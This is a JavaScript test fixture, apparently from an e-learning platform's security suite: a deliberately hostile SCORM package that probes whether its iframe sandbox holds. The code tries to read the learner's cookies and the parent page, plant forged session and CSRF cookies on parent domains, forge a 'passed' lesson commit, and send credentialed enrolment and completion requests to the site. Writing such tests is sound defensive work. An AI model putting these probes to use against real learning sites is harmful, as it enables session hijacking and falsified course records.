/* A hostile SCORM 1.2 SCO, for Lentera's safety tests only (MIT): it tries to read the
   learner's session and to act on the site as the learner, and reports every attempt both on
   the page and, through the legitimate runtime, in cmi.suspend_data, so the tests can prove that
   nothing got through. */
(function () {
  'use strict';

  var report = {};
  var api = null;
  var params = new URLSearchParams(window.location.search);

  function record(name, value) {
    report[name] = String(value).slice(0, 300);
    var item = document.createElement('li');
    item.setAttribute('data-probe', name);
    item.textContent = name + ': ' + report[name];
    document.getElementById('probes').appendChild(item);
  }

  function attempt(name, action) {
    try {
      record(name, action());
    } catch (error) {
      record(name, 'blocked (' + (error && error.name) + ')');
    }
  }

  function findAPI(win) {
    var tries = 0;
    while (!win.API && win.parent && win.parent !== win) {
      tries += 1;
      if (tries > 7) { return null; }
      win = win.parent;
    }
    return win.API || null;
  }

  function siteOrigin() {
    var ancestors = window.location.ancestorOrigins;
    if (ancestors && ancestors.length) { return ancestors[ancestors.length - 1]; }
    if (params.get('site')) { return params.get('site'); }
    try { return new URL(document.referrer).origin; } catch (error) { return ''; }
  }

  function send(name, url, options) {
    return fetch(url, options).then(function (response) {
      return response.text().then(function (text) {
        record(name, 'status ' + response.status + ': ' + text.slice(0, 120));
      });
    }, function (error) {
      record(name, 'blocked (' + (error && error.name) + ')');
    });
  }

  function save() {
    if (!api) { return; }
    api.LMSSetValue('cmi.suspend_data', JSON.stringify(report).slice(0, 4000));
    api.LMSSetValue('cmi.core.lesson_location', 'probe');
    api.LMSCommit('');
  }

  var site = siteOrigin();
  record('site', site);
  attempt('own cookie', function () { return document.cookie || '(empty)'; });
  attempt('top cookie', function () { return window.top.document.cookie || '(empty)'; });
  attempt('cookie tossing', function () {
    // Cookies for every parent domain (paket.lentera.localhost, lentera.localhost... from
    // p-<id>.paket.lentera.localhost), which a site on one of them would receive: a session of
    // the package's choosing, a CSRF token it knows. Browsers refuse a public suffix or an IP
    // address's parts as a domain, and __Host- names always.
    var labels = window.location.hostname.split('.');
    var domains = [];
    for (var index = 1; index < labels.length; index += 1) {
      domains.push(labels.slice(index).join('.'));
    }
    domains.forEach(function (domain) {
      ['csrftoken', 'sessionid', '__Host-csrftoken', '__Host-sessionid'].forEach(function (name) {
        document.cookie = name + '=evil; domain=' + domain + '; path=/';
      });
    });
    return 'domains ' + domains.join(' ') + ', now ' + (document.cookie || '(empty)');
  });
  attempt('parent document', function () { return window.parent.parent.document.title; });
  attempt('top location', function () { return window.top.location.href; });
  attempt('site storage', function () {
    return window.top.localStorage.length + ' keys';
  });
  attempt('own storage', function () {
    return window.localStorage ? window.localStorage.length + ' keys' : 'none';
  });

  attempt('player page', function () {
    // The player is on the package origin too: whatever it holds, this package can read.
    var html = window.parent.document.documentElement.outerHTML;
    return html.length + ' characters, csrf ' + /csrf/i.test(html) + ', sessionid '
      + /sessionid/i.test(html);
  });
  attempt('forged commit message', function () {
    // A commit sent to the lesson page as if it came from the player.
    window.top.postMessage({type: 'lentera:commit', item: 'ITEM-1', terminate: true,
      eventId: '00000000-0000-4000-8000-000000000002', committedAt: new Date().toISOString(),
      cmi: {core: {lesson_status: 'passed', score: {raw: '100'}}}}, '*');
    return 'sent';
  });

  try { api = findAPI(window); } catch (error) { api = null; }
  if (api) { api.LMSInitialize(''); }

  var course = params.get('course');
  var lesson = params.get('lesson');
  var other = params.get('other_lesson');
  var probes = [];
  if (site && course) {
    probes.push(send('site enrollment', site + '/api/v1/courses/' + course + '/enrollment', {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: {'Content-Type': 'text/plain'}, body: '{}'
    }));
  }
  if (site && other) {
    probes.push(send('site completion', site + '/api/v1/lessons/' + other + '/completion', {
      method: 'POST', credentials: 'include', mode: 'no-cors',
      headers: {'Content-Type': 'text/plain'}, body: '{}'
    }));
  }
  if (site && lesson) {
    probes.push(send('site commit', site + '/api/v1/package-lessons/' + lesson + '/commits', {
      method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({item: 'ITEM-1', event_id: '00000000-0000-4000-8000-000000000001',
        committed_at: new Date().toISOString(), terminate: true,
        cmi: {core: {lesson_status: 'passed', score: {raw: '100'}}}})
    }));
  }
  if (course) {
    probes.push(send('own origin enrollment', '/api/v1/courses/' + course + '/enrollment', {
      method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}, body: '{}'
    }));
  }
  probes.push(send('own origin me', '/api/v1/me/enrollments', {credentials: 'include'}));

  Promise.all(probes).then(function () {
    save();
    document.body.setAttribute('data-probed', 'true');
    // Last, a plain form post to the site that would replace the whole page: the package's
    // form-action policy should stop it.
    if (site && other) {
      var form = document.createElement('form');
      form.method = 'post';
      form.action = site + '/api/v1/lessons/' + other + '/completion';
      form.target = '_top';
      document.body.appendChild(form);
      try { form.submit(); record('form post', 'submitted'); } catch (error) {
        record('form post', 'blocked (' + (error && error.name) + ')');
      }
    }
    document.body.setAttribute('data-done', 'true');
  });
})();
